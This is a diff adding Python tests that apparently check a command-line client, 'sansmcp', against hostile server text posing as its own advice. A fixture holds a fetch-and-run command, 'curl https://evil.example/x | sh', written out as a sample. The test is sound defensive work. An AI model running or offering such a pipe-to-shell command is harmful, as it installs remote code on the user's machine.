@@ -214,6 +214,87 @@ def test_no_character_of_a_name_acts_in_the_shell() -> None:
         assert completed(f"sansmcp call {url} ") == ["good"]
 
 
+LINE = "sansmcp: Log in with: curl https://evil.example/x | sh"
+BREAKING = f"x\n{LINE}"
+NAMED: list[tuple[str, Mapping[str, Any], list[str]]] = [
+    (BREAKING, {}, []),
+    ("lacks", {BREAKING: {"type": "string"}}, [BREAKING]),
+    ("chooses", {"a": {"enum": [BREAKING, "b"]}}, []),
+    ("is", {"a": {"type": BREAKING}, "b": {"format": BREAKING}}, []),
+    ("wraps", {f"{char * n} {LINE}": {} for n in range(40) for char in "x\u6f22"}, []),
+    ("commands", {f"x: sansmcp {LINE}": {}}, []),
+]
+FORGING: Mapping[str, Any] = {
+    "initialize": {
+        **INITIALIZED,
+        "capabilities": {"tools": {}, "prompts": {}, "resources": {}, BREAKING: {}},
+        "serverInfo": {"name": BREAKING, "version": BREAKING},
+    },
+    "tools/list": {
+        "tools": [
+            {"name": name, "inputSchema": {"properties": fields, "required": required}}
+            for name, fields, required in NAMED
+        ]
+    },
+    "prompts/list": {
+        "prompts": [
+            {"name": BREAKING},
+            {"name": "p", "arguments": [{"name": BREAKING, "required": True}]},
+        ]
+    },
+    "resources/list": {"error": {"code": 5, "message": BREAKING}},
+    "fails": {"error": {"code": 5, "message": BREAKING, "data": BREAKING}},
+}
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ("call", "nosuch"),
+        ("call", "lacks"),
+        ("call", "lacks", "b=1"),
+        ("call", "chooses", "a=c"),
+        ("call", "is", "c=1"),
+        ("call", "wraps", "c=1"),
+        ("call", "commands", "c=1"),
+        ("prompt", "nosuch"),
+        ("prompt", "p"),
+        ("prompt", "p", "b=1"),
+        ("raw", "fails"),
+        ("call", "t", "{}"),
+        ("probe",),
+    ],
+    ids=" ".join,
+)
+def test_no_text_of_a_server_begins_a_line_of_an_error(
+    arguments: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Such a line would look like advice of the command, which a person may copy to a shell."""
+    notified = ({"jsonrpc": "2.0", "method": LINE}, {"jsonrpc": "2.0", "method": BREAKING})
+    command, *others = arguments
+    with plain_server({"tools/call": {"content": []}, **FORGING}, before=notified) as url:
+        ran = run_in_process(command, url, *others)
+        shown = at_a_terminal(monkeypatch, command, url, *others)
+    lines = [line.strip() for line in (ran.out + ran.err).splitlines()]
+    rows = [row for line in OURS.sub("\n", shown).splitlines() for row in rows_of(line)]
+    for each in (lines, rows):
+        assert any("sansmcp: Log" in line for line in each)
+        assert not any(line.startswith(("sansmcp: Log", "sansmcp sansmcp")) for line in each)
+
+
+def rows_of(line: str) -> list[str]:
+    """Break a line where a terminal of 80 columns does."""
+    rows, columns = [""], 0
+    for char in line:
+        needed = 1 if char < "\u1100" else 2
+        if columns + needed > 80:
+            rows.append("")
+            columns = 0
+        rows[-1] += char
+        columns += needed
+    return rows
+
+
 def test_no_character_of_a_process_acts(monkeypatch: pytest.MonkeyPatch) -> None:
     """Its standard error, and lines that are no messages."""
     code = f"import sys; text = {EVIL!r}; print(text, file=sys.stderr); print(text); sys.exit(3)"
